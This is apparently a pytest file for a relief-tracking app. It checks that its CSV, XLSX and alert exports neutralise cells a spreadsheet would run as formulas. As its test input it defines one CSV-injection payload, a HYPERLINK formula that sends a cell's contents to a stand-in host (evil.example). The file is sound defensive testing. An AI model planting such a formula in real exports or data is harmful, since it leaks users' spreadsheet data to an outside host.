"""Every export neutralises cells a spreadsheet would run as formulas (issue 14, item 7)."""

import csv
import io
from datetime import timedelta

import pytest
from openpyxl import load_workbook
from sqlalchemy import update

from relief.areas.models import Area
from relief.core.models import utcnow
from relief.extensions import db
from tests.coverage.conftest import BANJARSARI, at, make_assessment, make_delivery, make_event  # noqa: F401
from tests.exports.test_api import COVERAGE_COLUMNS, DELIVERY_COLUMNS, _hxl_errors

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"klik")'


@pytest.fixture
def event_id(app, restore_areas, make_event, make_assessment, make_delivery):  # noqa: F811
    db.session.execute(update(Area).where(Area.code == BANJARSARI).values(name=EVIL))
    event = make_event()
    make_assessment(event, displaced_persons=100, displaced_households=25, affected_persons=300)
    make_delivery(event, items=[("rice", 100.0)], accepted=[90.0], delivered_at=at(3))
    event_id = event.id
    db.session.commit()
    return event_id


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def _no_live_formula(values) -> None:
    """No text cell starts a formula (numbers such as a latitude of -6.6 are numbers)."""
    for value in values:
        if isinstance(value, str) and not _number(value):
            assert not value.lstrip().startswith(("=", "+", "-", "@")), value


def test_csv_exports_keep_the_name_as_text_and_hxl_still_validates(client, token_for, event_id):
    headers = token_for("ombudsman")
    for path, columns in (("coverage.csv", COVERAGE_COLUMNS), ("deliveries.csv", DELIVERY_COLUMNS)):
        response = client.get(f"/api/v1/exports/{path}?event_id={event_id}", headers=headers)
        assert response.status_code == 200
        text = response.get_data(as_text=True)
        rows = list(csv.reader(io.StringIO(text)))
        cells = [c for row in rows[2:] for c in row]
        assert "'" + EVIL in cells, path
        _no_live_formula(cells)
        assert _hxl_errors(text, columns) == []


def test_xlsx_exports_hold_no_formula_cells(client, token_for, event_id):
    headers = token_for("ombudsman")
    for path in ("coverage.xlsx", "deliveries.xlsx"):
        response = client.get(f"/api/v1/exports/{path}?event_id={event_id}", headers=headers)
        assert response.status_code == 200
        sheet = load_workbook(io.BytesIO(response.data)).active
        cells = [c for row in sheet.iter_rows() for c in row]
        assert not [c.coordinate for c in cells if c.data_type == "f"], path
        assert "'" + EVIL in [c.value for c in cells], path


def test_alert_exports_neutralise_the_village_name(app, client, login_as, event_id):
    from relief.alerts.models import Alert, fingerprint_of

    opened = utcnow() - timedelta(hours=1)
    db.session.add(
        Alert(
            fingerprint=fingerprint_of("no_delivery", event_id, BANJARSARI, None),
            kind="no_delivery",
            event_id=event_id,
            village_code=BANJARSARI,
            regency_code="36.02",
            level="critical",
            category="tidak_memberikan_pelayanan",
            suggested_category="tidak_memberikan_pelayanan",
            opening_facts={"note": "@SUM(1)"},
            facts={"note": "-1+1"},
            opened_at=opened,
            evaluated_at=opened,
            state="open",
            response_due_at=opened + timedelta(days=3),
            resolution_due_at=opened + timedelta(days=14),
        )
    )
    db.session.commit()
    login_as("ombudsman")
    text = client.get(f"/alerts/export.csv?event_id={event_id}").get_data(as_text=True)
    cells = [c for row in list(csv.reader(io.StringIO(text)))[1:] for c in row]
    assert "'" + EVIL in cells
    _no_live_formula(cells)
    book = load_workbook(io.BytesIO(client.get(f"/alerts/export.xlsx?event_id={event_id}").data))
    cells = [c for row in book.active.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert "'" + EVIL in [c.value for c in cells]


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", " =1", "\uff1d1"])
def test_formula_starts_become_text(value):
    from relief.core.spreadsheet import neutralise

    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", [-6.62, 0, 12, "Desa Banjarsari", "", None, "36.02.25.2004"])
def test_other_values_pass_unchanged(value):
    from relief.core.spreadsheet import neutralise

    assert neutralise(value) == value
